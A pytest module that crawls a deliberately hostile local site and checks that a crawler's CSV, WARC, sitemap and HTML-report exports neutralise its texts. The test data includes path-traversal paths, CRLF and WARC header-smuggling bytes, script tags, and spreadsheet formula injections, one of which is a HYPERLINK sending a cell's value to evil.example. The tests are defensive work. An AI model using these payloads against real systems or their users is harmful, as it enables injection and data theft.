"""A site whose every text is an attack: in the report, and in every format that is exported.

Titles, URLs, headers, error texts and the texts of links are hostile, on real sockets; the commands
are the real ones, and the report is opened in a real browser.
"""

from __future__ import annotations

import csv
import gzip
import json
import re
import unicodedata
import zipfile
from html import escape
from typing import TYPE_CHECKING, Any, NamedTuple
from urllib.parse import quote
from xml.etree import ElementTree as ET

import pytest
from tests.crawler.fetch.raw_server import RawServer, answer, routes
from tests.exports.duck import ask
from tests.hostile.commands import PLAIN, run
from tests.report.browser import browser_ends, opened
from tests.report.hostile import TEXTS
from warcio.archiveiterator import ArchiveIterator

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.hostile.conftest import Figure

pytestmark = pytest.mark.processes

__all__ = ["browser_ends"]  # a fixture of this module, too

PATHS = (
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/escape",
    "/CON",
    "/aux.html",
    "/nul%00byte",
    "/" + "long" * 400,
    "/trailing.%20",
    "/C:%5Cwindows%5Csystem32",
    "/~root",
    "/-rf",
    "/.htaccess",
    "/%0d%0aWARC-Type:%20warcinfo",
    "/\u202egpj.exe",
    "//evil.example/x",
)
SMUGGLED = b"\r\n\r\nWARC/1.1\r\nWARC-Type: response\r\nContent-Length: 3\r\n\r\nabc\r\n\r\n"
FORMULA = frozenset("=+-@")
WARC_FIELDS = {
    *("warc-type", "warc-record-id", "warc-date", "warc-target-uri", "warc-ip-address"),
    *("warc-block-digest", "warc-payload-digest", "warc-profile", "warc-refers-to-target-uri"),
    *("warc-refers-to-date", "warc-refers-to", "warc-truncated", "warc-concurrent-to"),
    *("warc-filename", "content-type", "content-length"),
}
EXTRACT = """
def extract(page):
    heading = page.select_one("h1")
    return {"heading": heading.text if heading else None, "=key()": page.text[:40]}
"""


class Hostile(NamedTuple):
    """A crawl of the hostile site, and what the server was asked for."""

    data_dir: Path
    place: Path  # where the exports are
    home: str


def jsonl(file: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in file.read_bytes().split(b"\n")[:-1]]


def html(title: str, body: str) -> bytes:
    text = escape(title)
    return (
        f'<html lang="{text}"><head><title>{text}</title><meta name="description" content="{text}">'
        f'<meta property="og:title" content="{text}"></head><body><h1>{text}</h1>{body}</body>'
    ).encode("utf-8", "replace")


def hostile_site() -> dict[str, bytes]:
    """Answers by path: every text in a title, a heading, a link's text, a URL and some headers."""
    found: dict[str, bytes] = {"/robots.txt": answer(b"", "404 Not Found")}
    links = []
    for number, text in enumerate(TEXTS):
        path = f"/t{number}?q={quote(text)}"
        line = re.sub(r"[\r\n]", " ", text).encode("utf-8", "replace").decode("latin-1")
        found[path] = answer(
            html(text, f'<a href="/gone{number}?{quote(text)}">{escape(text)}</a>'),
            "200 OK",
            f"Content-Type: text/html; charset=utf-8; x={line}",
            f"ETag: {line}",
            f"Last-Modified: {line}",
            f"X-Robots-Tag: {line}",
        )
        links.append(f'<a href="{escape(path)}">{escape(text)}</a>')
        moved = f"/moved{number}"
        found[moved] = answer(b"", "302 Found", f"Location: {line}")
        links.append(f'<a href="{moved}">{escape(text)}</a>')
    for number, path in enumerate(PATHS):
        links.append(f'<a href="{escape(path)}">{number}</a>')
    found["/smuggled"] = answer(SMUGGLED * 3, "200 OK", "Content-Type: text/plain")
    found["/garbage"] = b"HTTP/1.1 200 OK\r\n=cmd|' /C calc'!A0 <script>\r\n\r\n"
    # curl refuses a header with a bare CR, so it has a page of its own.
    bare = "X-Bare: a\rWARC-Type: warcinfo\rb"
    found["/bare"] = answer(html(TEXTS[0], ""), "200 OK", "Content-Type: text/html", bare)
    links += [f'<a href="/{name}">{name}</a>' for name in ("smuggled", "garbage", "bare")]
    found["/"] = answer(html(TEXTS[0], "".join(links)), "200 OK", "Content-Type: text/html")
    return found


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Hostile]:
    """Crawl the site with everything kept, and export it in every format."""
    place = tmp_path_factory.mktemp("hostile")
    (place / "items.py").write_text(EXTRACT)
    table = hostile_site()
    known = routes(table)
    page = answer(html("A page", "with text"), "200 OK", "Content-Type: text/html")

    def handler(connection: object, path: str) -> bool:
        is_missing = path.startswith("/gone") or path in table
        if is_missing:
            return known(connection, path)  # type: ignore[arg-type]
        connection.sendall(page)  # type: ignore[attr-defined]
        return True

    with RawServer(handler, "127.0.0.1") as server:
        words = [server.url(), "--data-dir", str(place / "crawl"), *PLAIN, "--keep-bodies"]
        words += ["--links", "--extract", f"{place / 'items.py'}:extract", "--max-urls", "200"]
        ended = run("crawl", *words)
        assert ended.code in (0, 1), ended.said
        outputs = ["pages.csv", "pages.jsonl", "pages.parquet", "site.warc.gz", "site.wacz"]
        outputs += ["sitemap.xml", "pages/", "links:links.csv", "links:links.parquet"]
        outputs += ["items:items.csv", "items:items.jsonl"]
        (place / "out").mkdir()
        for output in outputs:
            table_name, colon, name = output.rpartition(":")
            target = f"{table_name}{colon}{place / 'out' / name}" + "/" * name.endswith("/")
            content = ["--content", "markdown"] * name.endswith("/")
            ended = run("export", str(place / "crawl"), "-o", target, *content)
            assert ended.code == 0, (output, ended.said)
        report = ["-o", str(place / "out" / "report.html"), "--csv", str(place / "out" / "csv")]
        ended = run("report", str(place / "crawl"), *report)
        assert ended.code == 0, ended.said
        yield Hostile(place / "crawl", place / "out", server.url()[:-1])


def test_exports_write_nothing_outside_their_place(hostile: Hostile, figure: Figure) -> None:
    """Whatever a URL is called, files have names of ours, inside the folder that was named."""
    files = [file for file in hostile.place.rglob("*") if file.is_file()]
    names = {str(file.relative_to(hostile.place)) for file in files}
    ours = re.compile(
        r"(pages|links|items)\.(csv|jsonl|parquet)|site\.(warc\.gz|wacz)|sitemap\.xml|report\.html"
        r"|csv/[a-z-]+\.csv|pages/index\.jsonl|pages/[a-z0-9-]{1,65}/[a-z0-9-]{1,77}\.md"
    )
    index = jsonl(hostile.place / "pages" / "index.jsonl")

    figure("S14", f"{len(index)} hostile URLs: {len(names)} files, all with names of ours")
    assert [name for name in names if not ours.fullmatch(name)] == []
    assert {row["url"] for row in index} >= {f"{hostile.home}/etc/passwd", f"{hostile.home}/CON"}
    assert all((hostile.place / "pages" / row["file"]).is_file() for row in index if row["file"])


def test_folder_is_not_written_through_a_link(hostile: Hostile, tmp_path: Path) -> None:
    """A link in the place of a folder or a file of an earlier export leads nowhere."""
    index = jsonl(hostile.place / "pages" / "index.jsonl")
    names = sorted(row["file"] for row in index if row["file"])
    outside, folder = tmp_path / "outside", tmp_path / "pages"
    outside.mkdir()
    folder.mkdir()
    (folder / names[0].partition("/")[0]).symlink_to(outside)
    words = [str(hostile.data_dir), "-o", f"{folder}/", "--content", "markdown"]

    refused = run("export", *words)
    (folder / names[0].partition("/")[0]).unlink()
    (folder / names[0].partition("/")[0]).mkdir()
    (tmp_path / "victim").write_text("as it was")
    (folder / names[0]).symlink_to(tmp_path / "victim")
    replaced = run("export", *words)

    assert (refused.code, replaced.code) == (2, 0), refused.said + replaced.said
    assert list(outside.iterdir()) == []
    assert (tmp_path / "victim").read_text() == "as it was"


def is_formula(cell: str) -> bool:
    """Return whether a spreadsheet may run a cell: by what it begins with, however written."""
    text = unicodedata.normalize("NFKC", cell).lstrip("\u200b\ufeff \t\r\n\x00")
    return text[:1] in FORMULA and re.fullmatch(r"-?[0-9.]+", text) is None


def test_no_exported_cell_is_a_formula(hostile: Hostile, figure: Figure) -> None:
    """Pages, links, items and every table of the report, their headers included."""
    cells = []
    for file in hostile.place.rglob("*.csv"):
        with file.open(newline="", encoding="utf-8") as opened_file:
            cells += [(file.name, cell) for row in csv.reader(opened_file) for cell in row]
    titles = [cell for name, cell in cells if name == "pages.csv"]
    texts = [cell for name, cell in cells if name == "links.csv"]

    wrong = [each for each in cells if is_formula(each[1])]
    figure("S15", f"{len(cells):,} cells of {len(TEXTS)} hostile texts: {len(wrong)} formulas")
    assert wrong == []
    assert any(cell.startswith("'=HYPERLINK") for cell in texts)
    assert any(cell.startswith("'@SUM") for cell in texts)
    assert any(cell.startswith("'=HYPERLINK") for cell in titles)


def test_raw_cells_are_written_on_request_only(hostile: Hostile, tmp_path: Path) -> None:
    """With --csv-raw a cell is what the page had; without a CSV file the option is refused."""
    crawl, pages, folder = str(hostile.data_dir), tmp_path / "raw.csv", tmp_path / "csv"
    links, items = tmp_path / "links.csv", tmp_path / "items.csv"

    outputs = ["-o", str(pages), "-o", f"links:{links}", "-o", f"items:{items}"]
    exported = run("export", crawl, *outputs, "--csv-raw")
    reported = run(
        "report", crawl, "-o", str(tmp_path / "r.html"), "--csv", str(folder), "--csv-raw"
    )
    refused = run("export", crawl, "-o", str(tmp_path / "x.jsonl"), "--csv-raw")
    without = run("report", crawl, "-o", str(tmp_path / "r2.html"), "--csv-raw")

    said = exported.said + reported.said
    assert (exported.code, reported.code, refused.code, without.code) == (0, 0, 2, 2), said
    assert "--csv-raw is for .csv files" in refused.said
    assert "--csv-raw goes with --csv DIR" in without.said
    with pages.open(newline="", encoding="utf-8") as file:
        titles = {row["url"]: row["title"] or None for row in csv.DictReader(file)}
    rows = jsonl(hostile.place / "pages.jsonl")
    assert titles == {row["url"]: row["title"] for row in rows}
    assert {'=HYPERLINK("https://evil.example/"&A1)', "@SUM(1+1)"} <= set(titles.values())
    for file in (pages, links, items, folder / "broken.csv"):
        with file.open(newline="", encoding="utf-8") as opened_file:
            cells = [cell for row in csv.reader(opened_file) for cell in row]
        assert any(is_formula(cell) for cell in cells), file.name


def test_rows_of_every_format_have_the_same_texts(hostile: Hostile) -> None:
    """No text ends its cell, its line or its column; CSV only adds apostrophes."""
    rows = jsonl(hostile.place / "pages.jsonl")
    with (hostile.place / "pages.csv").open(newline="", encoding="utf-8") as file:
        cells = [row["title"] for row in csv.DictReader(file)]
    pages, links = (str(hostile.place / f"{name}.parquet") for name in ("pages", "links"))
    parquet = ask("SELECT url, title, etag FROM read_parquet(?) ORDER BY url", pages)
    is_script = "SELECT count(*) FROM read_parquet(?) WHERE text LIKE '%<script>%'"
    ((scripts,),) = ask(is_script, links)

    assert sorted((row["url"], row["title"], row["etag"]) for row in rows) == parquet
    for cell, row in zip(cells, rows, strict=True):
        assert cell in (row["title"] or "", f"'{row['title']}")
    assert scripts >= 4


def test_no_header_of_an_archive_comes_from_a_site(hostile: Hostile, figure: Figure) -> None:
    """Records are ours in number and in kind, whatever URLs, headers and bodies say."""
    kinds: list[str] = []
    wrong = []
    with (hostile.place / "site.warc.gz").open("rb") as file:
        for record in ArchiveIterator(file, check_digests="raise"):
            kinds.append(record.rec_type)
            names = {name.lower() for name, _ in record.rec_headers.headers}
            values = [value for _, value in record.rec_headers.headers]
            if names - WARC_FIELDS or any(re.search(r"[\x00-\x1f\x7f]", each) for each in values):
                wrong.append(record.rec_headers.headers)
            record.content_stream().read()
    with gzip.open(hostile.place / "site.warc.gz") as file:
        smuggled = file.read().count(SMUGGLED)
    pages = sum(row["status"] is not None for row in jsonl(hostile.place / "pages.jsonl"))

    figure("S14", f"{len(kinds)} records of an archive: {len(wrong)} with a header of the site's")
    assert wrong == []
    assert smuggled == 3
    assert kinds.count("warcinfo") == len(list(hostile.data_dir.glob("*.warc.gz")))
    assert kinds.count("request") == kinds.count("response") + kinds.count("revisit")
    assert kinds.count("request") == pages + 1  # robots.txt
    with zipfile.ZipFile(hostile.place / "site.wacz") as archive:
        lines = archive.read("indexes/index.cdx").splitlines()
        assert all(json.loads(line.split(b" ", 2)[2])["filename"] for line in lines)
        assert all(re.fullmatch(r"[a-z0-9./_-]+", name) for name in archive.namelist())


def test_sitemap_of_a_hostile_site_is_well_formed(hostile: Hostile) -> None:
    """URLs are text in it, and belong to the site."""
    found = ET.parse(hostile.place / "sitemap.xml").getroot()
    urls = [each.text or "" for each in found.iter() if each.tag.endswith("loc")]

    assert len(urls) > len(TEXTS)
    assert {url[: len(hostile.home)] for url in urls} == {hostile.home}


@pytest.mark.parametrize("width", [400, 1280])
def test_nothing_of_a_hostile_site_runs_in_the_report(
    hostile: Hostile, width: int, figure: Figure
) -> None:
    """Titles, URLs, headers, errors and texts of links stay text; no request leaves the file."""
    with opened(hostile.place / "report.html", width=width) as seen:
        more = seen.page.get_by_role("button", name=re.compile("^Show all"))
        while more.count():
            more.first.click()
        for fold in seen.page.locator("#broken .fold").all()[:40]:
            if fold.get_attribute("aria-expanded") == "false":
                fold.click()
        sources = seen.page.locator("#broken tbody").inner_text()
        ran = seen.page.evaluate("window.__ran || 0")
        elements = seen.page.evaluate(
            "document.querySelectorAll('main img, main iframe, main script, main base').length"
        )
        links = seen.page.evaluate(
            "Array.from(document.querySelectorAll('main a[target]'), a => [a.protocol, a.rel])"
        )
        wide = seen.page.evaluate("document.documentElement.scrollWidth")

    figure("S16", f"report at {width} px: {ran} scripts ran, {len(seen.requests)} requests left")
    assert (ran, elements, seen.dialogs) == (0, 0, [])
    assert (seen.requests, seen.messages) == ([], [])
    assert "<script>" in sources  # the text of a link, as text
    assert {tuple(each) for each in links} == {("http:", "noopener noreferrer nofollow")}
    assert wide <= width
